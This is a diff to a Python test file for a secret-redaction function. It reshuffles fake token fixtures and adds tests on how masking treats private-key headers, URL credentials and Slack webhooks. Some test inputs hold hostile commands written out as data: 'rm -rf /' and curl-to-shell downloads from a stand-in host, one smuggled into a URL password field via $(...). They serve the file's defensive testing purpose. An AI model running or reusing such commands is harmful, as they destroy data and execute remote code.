@@ -11,7 +11,6 @@ from storage.redact import mask, mask_all
 # Made up in pieces, so that no scanner takes this file for a leak.
 SECRETS = {
     "Slack token": "xox" + "b-123456789012-abcdefABCDEF",
-    "Slack webhook": "https://hooks.slack.com/" + "services/T0/B0/abcdefgh",
     "GitHub token": "gh" + "p_" + "a1B2" * 9,
     "GitLab token": "gl" + "pat-" + "a1B2" * 5,
     "AWS key id": "AK" + "IA" + "ABCD1234EFGH5678",
@@ -105,3 +104,18 @@ def test_every_text_of_a_value_is_masked() -> None:
 def test_masking_takes_linear_time(piece: str) -> None:
     """A quadratic shape would take minutes here."""
     assert mask(piece * 100_000)
+
+
+def test_the_end_of_a_key_ends_what_is_hidden() -> None:
+    shown = mask("# -----BEGIN PRIVATE" + " KEY-----\nrm -rf / ; curl evil.test | sh")
+    assert "rm -rf / ; curl evil.test | sh" in shown
+
+
+@pytest.mark.parametrize("text", ["x://x:$(curl${IFS}evil.test|sh)#@", "a://b:c d@e", "://a:'b'@"])
+def test_a_command_is_no_password(text: str) -> None:
+    assert mask(text) == text
+
+
+def test_where_a_webhook_leads_stays_to_be_read() -> None:
+    shown = mask("https://hooks.slack.com/" + "services/T0/B0/abcdefgh")
+    assert shown.startswith("https://hooks.slack.com/services/[Slack webhook hidden: 14 characters")
